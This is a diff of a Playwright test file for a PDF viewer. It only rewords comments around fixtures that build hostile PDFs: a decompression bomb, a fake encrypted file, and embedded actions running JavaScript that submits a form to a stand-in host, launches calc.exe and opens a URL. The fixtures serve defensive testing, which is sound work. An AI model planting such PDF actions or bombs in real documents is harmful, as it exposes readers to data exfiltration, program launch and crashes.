@@ -41,7 +41,7 @@ test('files that were sent are opened as table or text, and saved as they are', 
   )
 })
 
-/** A PDF of pages with a line each; its catalogue says what else it wants when it is opened. */
+/** A PDF with one line per page; its catalogue states the further actions on opening. */
 function pdfOf(lines: readonly string[], wishes = ''): Buffer {
   const pages = lines.map((line, at) => {
     const content = `BT /F1 36 Tf 72 700 Td (${line}) Tj ET`
@@ -66,7 +66,7 @@ function pdfOf(lines: readonly string[], wishes = ''): Buffer {
 
 const hexText = (byte: string): string => `<${byte.repeat(32)}>`
 
-/** A file that only a password opens. What it holds of that is made up: no password fits. */
+/** A file that needs a password to open. Its encryption data is made up: no password fits. */
 function lockedPdf(): Buffer {
   const encryption = `/Encrypt<</Filter/Standard/V 1/R 2/P -4/O${hexText('6f')}/U${hexText('75')}>>`
   return Buffer.from(
@@ -74,7 +74,7 @@ function lockedPdf(): Buffer {
   )
 }
 
-/** A page of a few hundred kilobytes that is some millions of lines once it is unpacked. */
+/** A page of a few hundred kilobytes that decompresses to millions of lines. */
 function bomb(): Buffer {
   const content = deflateSync(Buffer.alloc(160_000_000, '0 0 m 612 792 l 612 0 l 0 792 l S\n'))
   const head =
@@ -87,7 +87,7 @@ function bomb(): Buffer {
   ])
 }
 
-/** What a hostile file asks for: a script, a form sent away, a page of the network, a program. */
+/** Actions that a hostile file requests: a script, a submitted form, a page of the network, a program. */
 const wishes = [
   '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://pdf.invalid/"\\);)>>',
   '/AA<</WC<</S/Launch/F(calc.exe)>>/DS<</S/URI/URI(http://pdf.invalid/)>>>>',
@@ -139,7 +139,7 @@ test('a PDF that was sent is shown page by page, in the window alone, and what i
   await expect(first.locator('canvas')).toHaveAttribute('data-drawn', 'true')
   expect(await hasInk(first.locator('canvas'))).toBe(true)
   expect(await findViolations(page)).toEqual([])
-  // A page far below is drawn when one comes to it by keys, and those far from it are let go.
+  // A page far down is rendered when the keyboard reaches it, and pages far from it are released.
   const last = viewer.getByRole('article', { name: 'Page 12 of 12' })
   await expect(last.locator('canvas')).toHaveCount(0)
   await viewer.getByRole('region', { name: 'Pages' }).focus()
@@ -181,7 +181,7 @@ test('a PDF that was sent is shown page by page, in the window alone, and what i
   await expect(chat.message).toBeEditable()
 })
 
-/** Whether anything but white stands on a page. */
+/** Whether a page is not completely white. */
 function hasInk(canvas: Locator): Promise<boolean> {
   return canvas.evaluate((element) => {
     if (!(element instanceof HTMLCanvasElement)) return false
